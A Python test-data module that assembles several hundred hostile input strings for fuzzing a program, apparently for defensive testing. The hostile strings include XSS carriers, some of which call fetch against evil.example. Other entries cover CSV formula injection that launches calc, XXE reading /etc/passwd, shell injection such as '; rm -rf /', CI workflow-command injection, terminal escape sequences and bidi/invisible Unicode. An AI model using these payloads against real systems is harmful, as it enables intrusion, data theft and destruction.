"""A few hundred strings that have harmed programs of our kind, made from small parts: each kind with every carrier it has."""

from __future__ import annotations

_TAGS = (
    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg/onload={x}>", "<iframe srcdoc='{x}'>", "<a href=javascript:{x}>a</a>", "<body onload={x}>",
    "</script><script>{x}</script>", "</style><script>{x}</script>", "</textarea><script>{x}</script>", "</title><script>{x}</script>", "--><script>{x}</script>",
    "]]><script>{x}</script>", "\"><script>{x}</script>", "'><script>{x}</script>", "\" autofocus onfocus={x} x=\"", "' onmouseover={x} '", "<math><mtext></mtext><mglyph><style><img src=x onerror={x}>",
    "<details open ontoggle={x}>", "<input autofocus onfocus={x}>", "<ScRiPt>{x}</sCrIpT>", "<script\x20type=text/javascript>{x}</script>", "<scr\x00ipt>{x}</scr\x00ipt>",
    "&lt;script&gt;{x}&lt;/script&gt;", "＜script＞{x}＜/script＞", "<!--<script>{x}</script>-->", "<base href=//evil.example>{x}", "<meta http-equiv=refresh content='0;url=//evil.example'>{x}",
    "<link rel=stylesheet href=//evil.example/{x}>", "<object data=//evil.example>{x}</object>", "<form action=//evil.example><button>{x}", "<style>@import '//evil.example/{x}'</style>",
)  # fmt: skip
_PAYLOADS = ("alert(1)", "document.title='owned'", "fetch('//evil.example')", "`${alert`1`}`")
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_INVISIBLE = (
    "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u115f\u3164\uffa0\u180e\U000e0001\U000e0041\ufff9\ufffa\ufffb"
)
_CONTROLS = "".join(chr(c) for c in (*range(32), 127, *range(128, 160)))
_ANSI = (
    "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1b[10;10H", "\x1bc", "\x1b[?1049h", "\x1b[6n", "\x9b2J", "\x1bP$q\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b[1A\x1b[2K", "\r\x1b[KOK", "\b\b\b\bgone", "\x1b[8mhidden",
)  # fmt: skip
_COMMANDS = tuple(
    f"{lead}::{name} {rest}"
    for lead in ("", "\n", "%0A")
    for name, rest in (
        ("error", "file=a.txt,line=1::x"), ("warning", "::x"), ("notice", "title=a::x"), ("set-output", "name=a::b"), ("set-env", "name=PATH::/tmp"),
        ("add-mask", "::a"), ("add-path", "::/tmp"), ("stop-commands", "::tok"), ("group", "::x"), ("debug", "::x"), ("save-state", "name=a::b"), ("echo", "::on"),
    )
)  # fmt: skip
_OTHER_CI = (
    "##[error]x",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[buildStop]",
    "section_start:0:x\r\x1b[0K",
    "[ERROR] x",
    "Process exited 0",
)
_FORMULAS = tuple(
    f"{lead}{sign}{rest}"
    for lead in ("", " ", "\t", "\r", "\n", "\u3000")
    for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    for rest in ("cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example","x")')
)
_MARKDOWN = (
    "[a](javascript:alert(1))", "![a](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example/?a=1", "@everyone", "@github/team", "#1", "org/repo#1",
    "```\ncode\n```", "`a`", "# head", "> quote", "- [ ] task", "| a | b |\n|---|---|", "~~gone~~", "**bold**", "<details><summary>a</summary>", "\\", "***", "---", "[^1]: note",
    "&#60;script&#62;", ":tada:", "$x^2$", "fixes #1", "- item", "1. item", "    code", "[x]: http://evil.example", "www.evil.example",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{0}",
    "{explanation}",
    "%s%n%x",
    "%(a)s",
    "{__class__}",
    "{{config}}",
    "{x!r}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "&& id",
    "| id",
    "%PATH%",
)
_DATA = (
    "]]>",
    "<![CDATA[x]]>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "<?xml version='1.0'?>",
    '"""',
    "'''",
    "a: &a [*a]",
    "!!python/object:os.system",
    'key = "value"\n[[review]]',
    "'; DROP TABLE a; --",
    "\\u0000",
    "\\x1b[2J",
    "null",
    "true",
    "NaN",
    "-0",
    "1e400",
    "0x1",
    "~",
    "\\",
    "\\\\",
    "{",
    "}",
    "@article{x,",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "%",
    "# comment",
    "~!@#$%^&*()_+",
)
_TEXT = (
    "𝕳𝖊𝖑𝖑𝖔", "﷽", "ǅ", "ﬃ", "Ω≈ç√∫", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "𠮷野家", "か\u3099", "ｶﾞ", "e\u0301" * 3, "a" + "\u0301" * 60, "🏳️‍🌈👩‍👩‍👧‍👦", "😀" * 9, "e\u0301\u0300", "İı", "ß", "\ufffd", "\ufffe", "\uffff", "\ud800", "a\udfffb",
    "\u2028", "\u2029", "a\u2028b", "\x85", "\v\f", "   ", "\t\t", "", "　", "x" * 5000, "漢" * 3000, "http://" + "a" * 3000, "a\r\nb\rc\nd", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗", "مرحبا بالعالم", "שלום <b>עולם</b>", "ภาษาไทย", "नमस्ते", "한국어", "Ёлка",
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(tag.replace("{x}", payload) for tag in _TAGS for payload in _PAYLOADS),
            *(f"abc{c}def{c}<b>" for c in _BIDI + _INVISIBLE),
            *(f"a{c}b" for c in _CONTROLS),
            *_ANSI,
            *_COMMANDS,
            *_OTHER_CI,
            *_FORMULAS,
            *_MARKDOWN,
            *_TEMPLATES,
            *_DATA,
            *_TEXT,
        )
    )
)
BIDI = _BIDI
